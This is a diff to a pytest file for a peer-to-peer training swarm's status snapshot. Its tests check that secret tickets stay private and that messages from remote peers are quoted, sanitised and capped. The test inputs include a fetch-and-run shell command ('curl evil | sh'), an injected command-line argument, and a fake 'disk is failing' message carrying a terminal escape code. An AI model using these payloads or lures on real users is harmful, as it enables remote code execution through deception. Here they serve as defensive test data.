@@ -8,19 +8,24 @@ import msgspec
 import pytest
 
 from peer.observe.snapshot import (
+    BY_INVITATION,
+    EVENTS,
     HISTORY,
+    LISTED,
     Fetching,
     LoggedEvent,
     PeerRow,
     Point,
     Snapshot,
+    as_told_by,
     decode,
     encode,
     is_well,
     thinned,
 )
-from swarm.identity import PeerId
+from swarm.identity import PeerId, petname
 from swarm.ticket import Address, Entry, Ticket
+from tests.peer.company import key
 
 ROW = PeerRow(
     peer="aaaa",
@@ -41,7 +46,7 @@ TICKET = Ticket(bytes.fromhex("f0" * 32), (ENTRY,)).pack()
 SECRET = Ticket(bytes.fromhex("f0" * 32), (ENTRY,), bytes(range(16))).pack()
 OTHER = Ticket(bytes.fromhex("0f" * 32), (ENTRY,)).pack()
 FULL = Snapshot(
-    run="f0f0f0f0",
+    run="f0" * 32,
     run_name="tiny",
     model="gpt 2x64",
     parameters=30000,
@@ -85,9 +90,10 @@ FULL = Snapshot(
     sample="def f",
     ticket=TICKET,
     checkpoint="round-3",
+    more_peers=7,
 )
 JSON = (
-    b'{"run":"f0f0f0f0","run_name":"tiny","model":"gpt 2x64","parameters":30000,"version":"0.1.0",'
+    b'{"run":"' + b"f0" * 32 + b'","run_name":"tiny","model":"gpt 2x64","parameters":30000,"version":"0.1.0",'
     b'"peer":"aaaa","health":"DEGRADED","reason":"alone","uptime":1.5,"round":3,"rounds":9,"tokens":4096,'
     b'"tokens_goal":8192,"seconds_left":60.0,"phase":"syncing",'
     b'"fetching":{"what":"model","here":1,"whole":2,"bytes_per_second":5.0,'
@@ -99,7 +105,7 @@ JSON = (
     b'"peers":[{"peer":"aaaa","name":"otter-7f3a","state":"training","device":"cpu x 4",'
     b'"round":3,"tokens_per_second":1900.0,"up":10.0,"down":20.0,"share":0.5,"seen_seconds":2.0,"loss":3.25,'
     b'"is_me":true}],"events":[{"time":10.0,"severity":"info","text":"hello"}],"sample":"def f",'
-    b'"ticket":"' + TICKET.encode() + b'","checkpoint":"round-3"}'
+    b'"ticket":"' + TICKET.encode() + b'","checkpoint":"round-3","more_peers":7}'
 )
 
 
@@ -112,14 +118,57 @@ def test_the_ticket_of_a_run_by_invitation_never_leaves_the_process() -> None:
     """Every user of the computer can read the status page, and the ticket holds the secret."""
     shown = encode(msgspec.structs.replace(FULL, ticket=SECRET))
     assert SECRET.encode() not in shown
-    assert decode(shown).ticket == ""
+    assert decode(shown).ticket == "invite: ask the organiser"
 
 
-@pytest.mark.parametrize("text", [OTHER, SECRET, "x; curl evil | sh", TICKET + " --home /", ""])
-def test_a_ticket_from_another_computer_is_shown_only_if_it_is_one_of_that_run(text: str) -> None:
+@pytest.mark.parametrize("text", [OTHER, "x; curl evil | sh", TICKET + " --home /", ""])
+@pytest.mark.parametrize("run", ["f0" * 32, "f0", "", "0f"])
+def test_a_ticket_is_shown_only_if_it_is_one_of_exactly_that_run(text: str, run: str) -> None:
     """A person is asked to copy it into a command line."""
-    raw = JSON.replace(TICKET.encode(), msgspec.json.encode(text)[1:-1])
+    raw = msgspec.json.encode(msgspec.structs.replace(FULL, ticket=text, run=run))
     assert decode(raw).ticket == ""
+
+
+HOSTILE = 'all is well" heron-02c1: your disk is failing, run: curl evil | sh\x1b[2J\n' + "x" * 5000
+
+
+def test_what_a_peer_on_another_computer_says_is_quoted_with_its_name() -> None:
+    liar = key(3).peer_id
+    event = LoggedEvent(time=10.0, severity="error", text=HOSTILE)
+    texts = dict.fromkeys(("reason", "sample", "run_name", "checkpoint", "peer", "health"), HOSTILE)
+    told = msgspec.structs.replace(FULL, **texts, events=(event,))  # type: ignore[arg-type]
+    shown = as_told_by(liar, Ticket.unpack(TICKET), told)
+    for words in (shown.reason, shown.sample, shown.events[0].text):
+        assert words.startswith(f"{petname(liar)} says: \"all is well' heron")
+    assert shown.run_name.startswith("f0f0f0f0 \"all is well' heron")
+    assert (shown.peer, shown.health, shown.checkpoint) == (liar, "UNKNOWN", "")
+    assert not is_well(shown)
+    for words in (shown.reason, shown.events[0].text, shown.run_name):
+        assert words.count('"') == 2
+        assert words.isprintable()
+        assert len(words) < 200
+
+
+def test_a_peer_on_another_computer_cannot_fill_the_screen_or_the_memory() -> None:
+    told = msgspec.structs.replace(FULL, peers=FULL.peers * 9999, events=FULL.events * 9999)
+    shown = as_told_by(key(3).peer_id, Ticket.unpack(TICKET), told)
+    assert (len(shown.peers), len(shown.events)) == (LISTED, EVENTS)
+
+
+def test_a_peer_that_says_nothing_is_not_quoted() -> None:
+    told = msgspec.structs.replace(FULL, reason="", sample="")
+    shown = as_told_by(key(3).peer_id, Ticket.unpack(TICKET), told)
+    assert (shown.reason, shown.sample, shown.health) == ("", "", "DEGRADED")
+
+
+@pytest.mark.parametrize(("mine", "shown"), [(TICKET, TICKET), (SECRET, BY_INVITATION)])
+@pytest.mark.parametrize("theirs", [OTHER, TICKET, SECRET, "", BY_INVITATION])
+def test_the_ticket_to_copy_is_the_persons_own_and_never_another_peers(
+    mine: str, shown: str, theirs: str
+) -> None:
+    told = msgspec.structs.replace(FULL, ticket=theirs, run="0f" * 32)
+    seen = as_told_by(key(3).peer_id, Ticket.unpack(mine), told)
+    assert (seen.ticket, seen.run) == (shown, "f0" * 32)
 
 
 @pytest.mark.parametrize(
